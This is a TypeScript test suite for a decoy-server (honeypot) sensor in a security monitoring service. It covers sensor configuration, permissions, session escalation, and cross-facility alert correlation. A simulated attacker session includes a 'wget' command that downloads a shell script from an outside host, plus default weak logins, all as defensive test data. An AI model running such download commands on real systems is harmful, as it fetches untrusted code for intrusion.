/** Decoy-server sensors on the server: configuration on heartbeat, sessions, escalation, regional correlation. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import type { AgentEvent } from '@mamori/contracts';
import { loadConfig } from '../../config.ts';
import { startServer } from '../../server.ts';
import {
  agentRequest,
  bootstrapAdmin,
  createTestDatabase,
  enrolTestAgent,
  makeFacility,
  makeUser,
  onCleanup,
} from '../../test/harness.ts';

describe('sensors', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-sensors-'));
  onCleanup(async () => fs.rmSync(dir, { recursive: true, force: true }));
  const server = await startServer(
    loadConfig({
      DATABASE_URL: await createTestDatabase(),
      MAMORI_DATA_DIR: dir,
      MAMORI_PORT: '0',
      MAMORI_LOG_LEVEL: 'silent',
      MAMORI_WEB_DIR: '',
    }),
  );
  onCleanup(() => server.stop());
  const admin = await bootstrapAdmin({ app: server.app, database: server.database, url: '' });
  const fa = (await admin.req('POST', '/api/facilities', makeFacility({ name: '施設A' }))).json();
  const fb = (await admin.req('POST', '/api/facilities', makeFacility({ name: '施設B' }))).json();
  const sa = await enrolTestAgent(server.app, admin, fa.id, 'dmz-a', 'sensor');
  const sb = await enrolTestAgent(server.app, admin, fb.id, 'dmz-b', 'sensor');
  const plain = await enrolTestAgent(server.app, admin, fa.id, 'a-fs01');
  const adminA = await makeUser(server.app, admin, 'facility_admin', { facilityId: fa.id });
  const staffA = await makeUser(server.app, admin, 'facility_staff', { facilityId: fa.id });
  const call = (creds: typeof sa, method: 'GET' | 'POST', url: string, body?: unknown) =>
    agentRequest(server.url, method, url, body, creds, sa.caPem);
  const facts = (hostname: string, product: 'agent' | 'sensor') => ({
    hostname,
    os: 'linux',
    osVersion: 'Debian 12',
    ips: ['192.0.2.10'],
    agentVersion: '0.1.0',
    product,
    uptimeSeconds: 60,
  });

  let t0 = Date.now() - 600_000;
  const ev = (
    agentId: string,
    session: string,
    srcIp: string,
    interaction: string,
    stage: string,
    extra: Record<string, unknown> = {},
  ): AgentEvent => {
    t0 += 1000;
    return {
      id: crypto.randomUUID(),
      occurredAt: new Date(t0).toISOString(),
      source: 'sensor',
      kind: `sensor.${interaction}`,
      severity: (
        { scan: 'low', probe: 'low', login_attempt: 'medium', login_success: 'high', command: 'critical' } as const
      )[stage as 'probe'],
      title: `${interaction} from ${srcIp}`,
      details: { sessionId: session, persona: 'ssh', srcIp, srcPort: 50000, dstPort: 22, interaction, stage, ...extra },
      dedupKey: `sensor:${agentId}:${srcIp}`,
    };
  };

  it('gives a sensor its default configuration on the first heartbeat, and a facility agent none', async () => {
    const hb = await call(sa, 'POST', '/api/agent/heartbeat', facts('dmz-a', 'sensor'));
    assert.equal(hb.status, 200);
    const policy = hb.json().policy;
    assert.equal(policy.sensor.revision, 1);
    assert.match(policy.sensor.seed, /^[0-9a-f]{32}$/);
    assert.ok(policy.sensor.personas.some((p: { kind: string; port: number }) => p.kind === 'ssh' && p.port === 22));
    const again = await call(sa, 'POST', '/api/agent/heartbeat', facts('dmz-a', 'sensor'));
    assert.equal(again.json().policy.sensor.seed, policy.sensor.seed, 'the seed stays: the sensor keeps its face');
    const other = await call(plain, 'POST', '/api/agent/heartbeat', facts('a-fs01', 'agent'));
    assert.equal(other.json().policy.sensor, null);
    await call(sb, 'POST', '/api/agent/heartbeat', facts('dmz-b', 'sensor'));
  });

  it('lets an administrator change personas and ports; the sensor sees the new revision', async () => {
    const body = {
      bind: '127.0.0.1',
      personas: [
        { kind: 'ssh', port: 2222 },
        { kind: 'emr_web', port: 8443 },
      ],
      acceptedLogins: [{ username: 'admin', password: 'admin' }],
    };
    const res = await adminA.req('PUT', `/api/sensors/${sa.agentId}/config`, body);
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.json().revision, 2);
    const hb = await call(sa, 'POST', '/api/agent/heartbeat', facts('dmz-a', 'sensor'));
    assert.equal(hb.json().policy.sensor.revision, 2);
    assert.deepEqual(
      hb.json().policy.sensor.personas.map((p: { port: number }) => p.port),
      [2222, 8443],
    );
    const audit = (await admin.req('GET', `/api/audit?facilityId=${fa.id}&limit=50`)).json().items;
    assert.ok(audit.some((e: { action: string }) => e.action === 'sensor.configure'));
  });

  it('refuses bad configurations with a reason, other hosts, and people without the permission', async () => {
    const dup = await adminA.req('PUT', `/api/sensors/${sa.agentId}/config`, {
      personas: [
        { kind: 'ssh', port: 22 },
        { kind: 'telnet', port: 22 },
      ],
    });
    assert.equal(dup.statusCode, 400);
    assert.match(dup.body, /share a port/);
    const badPort = await adminA.req('PUT', `/api/sensors/${sa.agentId}/config`, {
      personas: [{ kind: 'ssh', port: 70000 }],
    });
    assert.equal(badPort.statusCode, 400);
    const notSensor = await adminA.req('PUT', `/api/sensors/${plain.agentId}/config`, { personas: [] });
    assert.equal(notSensor.statusCode, 404);
    const staff = await staffA.req('PUT', `/api/sensors/${sa.agentId}/config`, { personas: [] });
    assert.equal(staff.statusCode, 403);
  });

  it('shows what the sensor could not start', async () => {
    const res = await call(sa, 'POST', '/api/agent/sensor/status', {
      revision: 2,
      listening: [{ kind: 'ssh', port: 2222 }],
      problems: [{ port: 8443, message: 'port 8443 is already in use on 127.0.0.1' }],
    });
    assert.equal(res.status, 200);
    const list = (await adminA.req('GET', '/api/sensors')).json();
    assert.equal(list.items.length, 1, 'A sees its own sensor only');
    assert.deepEqual(list.items[0].problems, [{ port: 8443, message: 'port 8443 is already in use on 127.0.0.1' }]);
  });

  it('folds a session into one alert that escalates with behaviour, and keeps the replay', async () => {
    const s = crypto.randomUUID();
    const ip = '198.51.100.20';
    const batch1 = [
      ev(sa.agentId, s, ip, 'connect', 'probe'),
      ev(sa.agentId, s, ip, 'login', 'login_attempt', { username: 'root', password: '123456', success: false }),
    ];
    const r1 = await call(sa, 'POST', '/api/agent/events', { events: batch1 });
    assert.equal(r1.status, 200);
    let alerts = (await adminA.req('GET', `/api/alerts?facilityId=${fa.id}&source=sensor`)).json().items;
    const first = alerts.find((a: { kind: string }) => a.kind.startsWith('sensor.'));
    assert.equal(first.severity, 'medium');
    const batch2 = [
      ev(sa.agentId, s, ip, 'login', 'login_success', { username: 'admin', password: 'admin', success: true }),
      ev(sa.agentId, s, ip, 'command', 'command', { command: 'uname -a' }),
      ev(sa.agentId, s, ip, 'download', 'command', {
        url: 'http://203.0.113.9/x.sh',
        command: 'wget http://203.0.113.9/x.sh',
      }),
      ev(sa.agentId, s, ip, 'disconnect', 'command', { bytesIn: 300, bytesOut: 900 }),
    ];
    await call(sa, 'POST', '/api/agent/events', { events: batch2 });
    // A retry of the same batch changes nothing.
    await call(sa, 'POST', '/api/agent/events', { events: batch2 });
    alerts = (await adminA.req('GET', `/api/alerts?facilityId=${fa.id}&source=sensor`)).json().items;
    const same = alerts.filter((a: { kind: string }) => a.kind !== 'sensor.regional');
    assert.equal(same.length, 1, 'one alert per attacker source and sensor');
    assert.equal(same[0].severity, 'critical', 'command execution raises it to critical');
    assert.equal(same[0].count, 6);

    const sessions = (await adminA.req('GET', `/api/sensors/sessions?srcIp=${ip}`)).json();
    assert.equal(sessions.total, 1);
    const row = sessions.items[0];
    assert.deepEqual([row.stage, row.logins, row.commands, row.endedAt !== null], ['command', 2, 1, true]);
    assert.deepEqual(row.usernames.sort(), ['admin', 'root']);
    const detail = (await adminA.req('GET', `/api/sensors/sessions/${s}`)).json();
    assert.deepEqual(
      detail.interactions.map((i: { interaction: string }) => i.interaction),
      ['connect', 'login', 'login', 'command', 'download', 'disconnect'],
    );
    assert.equal(detail.interactions[4].url, 'http://203.0.113.9/x.sh');
    const live = (await adminA.req('GET', '/api/sensors/sessions?live=true')).json();
    assert.ok(!live.items.some((x: { id: string }) => x.id === s), 'an ended session is not live');
    const creds = (await adminA.req('GET', '/api/sensors/credentials')).json().items;
    const adminPair = creds.find((c: { username: string }) => c.username === 'admin');
    assert.deepEqual([adminPair.password, adminPair.accepted], ['admin', true]);
  });

  it("keeps one sensor's session out of reach of another sensor that reuses its id", async () => {
    const s = crypto.randomUUID();
    await call(sa, 'POST', '/api/agent/events', { events: [ev(sa.agentId, s, '198.51.100.40', 'connect', 'probe')] });
    await call(sb, 'POST', '/api/agent/events', {
      events: [ev(sb.agentId, s, '198.51.100.40', 'command', 'command', { command: 'forged' })],
    });
    const detail = (await admin.req('GET', `/api/sensors/sessions/${s}`)).json();
    assert.equal(detail.agentId, sa.agentId);
    assert.deepEqual(
      detail.interactions.map((i: { interaction: string }) => i.interaction),
      ['connect'],
    );
    assert.deepEqual([detail.stage, detail.commands], ['probe', 0]);
  });

  it('raises a regional alert in each facility when one source hits sensors of two facilities', async () => {
    const ip = '203.0.113.77';
    await call(sa, 'POST', '/api/agent/events', {
      events: [ev(sa.agentId, crypto.randomUUID(), ip, 'connect', 'probe')],
    });
    let regional = (await admin.req('GET', '/api/alerts?source=sensor&limit=200'))
      .json()
      .items.filter((a: { kind: string }) => a.kind === 'sensor.regional');
    assert.equal(regional.length, 0, 'one facility is not regional');
    await call(sb, 'POST', '/api/agent/events', {
      events: [ev(sb.agentId, crypto.randomUUID(), ip, 'connect', 'probe')],
    });
    regional = (await admin.req('GET', '/api/alerts?source=sensor&limit=200'))
      .json()
      .items.filter((a: { kind: string }) => a.kind === 'sensor.regional');
    assert.deepEqual(regional.map((a: { facilityId: string }) => a.facilityId).sort(), [fa.id, fb.id].sort());
    assert.ok(
      regional.every((a: { severity: string; title: string }) => a.severity === 'high' && a.title.includes(ip)),
    );
    // Facility A's administrator sees the count, not B's name.
    const mine = (await adminA.req('GET', '/api/alerts?source=sensor&limit=200'))
      .json()
      .items.find((a: { kind: string }) => a.kind === 'sensor.regional');
    assert.equal(mine.details.facilities, 2);
    assert.ok(!JSON.stringify(mine).includes('施設B'));
    // The region sees the source touching both facilities.
    const sources = (await admin.req('GET', '/api/sensors/sources')).json().items;
    const src = sources.find((x: { srcIp: string }) => x.srcIp === ip);
    assert.deepEqual(src.facilities.map((f: { name: string }) => f.name).sort(), ['施設A', '施設B']);
    const sourcesA = (await adminA.req('GET', '/api/sensors/sources')).json().items;
    assert.deepEqual(
      sourcesA.find((x: { srcIp: string }) => x.srcIp === ip).facilities.map((f: { name: string }) => f.name),
      ['施設A'],
    );
  });
});
